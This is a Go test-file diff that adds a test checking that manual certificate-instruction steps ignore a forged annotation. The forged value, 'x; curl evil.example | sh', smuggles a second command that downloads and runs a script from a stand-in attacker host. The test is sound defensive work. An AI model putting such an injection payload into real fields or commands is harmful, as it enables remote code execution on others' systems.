@@ -106,6 +106,16 @@ func TestAnIssuerOverridesThePresetFieldByField(t *testing.T) {
 	}
 }
 
+// TestNobodyWritesACommandIntoTheSteps with an annotation, of which no name has been checked.
+func TestNobodyWritesACommandIntoTheSteps(t *testing.T) {
+	forged := order()
+	forged.Annotations["cert-manager.io/certificate-name"] = "x; curl evil.example | sh"
+	in := []v1alpha1.ManualInstructions{{Language: "en", Steps: "kubectl get certificate {{certificate}}"}}
+	if steps := instructions.Fill(in, forged)[0].Steps; steps != "kubectl get certificate manual-1" {
+		t.Errorf("the steps are %q", steps)
+	}
+}
+
 // TestFilledInStepsStayBounded, whatever an issuer repeats in them, and are cut at the end of a character.
 func TestFilledInStepsStayBounded(t *testing.T) {
 	long := v1alpha1.ManualInstructions{Language: "fi", Steps: "ä" + strings.Repeat("{{noteApplication}}ä", 700)}
